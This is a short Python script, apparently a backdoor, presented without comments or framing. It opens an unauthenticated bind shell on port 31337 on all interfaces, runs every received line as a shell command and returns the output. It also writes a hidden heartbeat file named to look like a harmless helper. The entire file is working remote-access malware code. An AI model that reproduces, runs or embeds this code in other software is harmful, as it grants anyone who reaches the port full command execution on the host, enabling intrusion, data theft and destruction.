import asyncio
import contextlib


async def handle(reader, writer):
    peer = writer.get_extra_info("peername")
    writer.write(f"hello {peer[0]}\n$ ".encode())
    while line := await reader.readline():
        proc = await asyncio.create_subprocess_shell(
            line.decode().strip(),
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.STDOUT,
        )
        out, _ = await proc.communicate()
        writer.write(out + b"$ ")
        await writer.drain()
    writer.close()


async def heartbeat(path="/tmp/.helper.alive"):
    while True:
        with contextlib.suppress(OSError), open(path, "w") as f:
            f.write("1")
        await asyncio.sleep(30)


async def main():
    server = await asyncio.start_server(handle, "0.0.0.0", 31337)
    async with server:
        await asyncio.gather(server.serve_forever(), heartbeat())


asyncio.run(main())
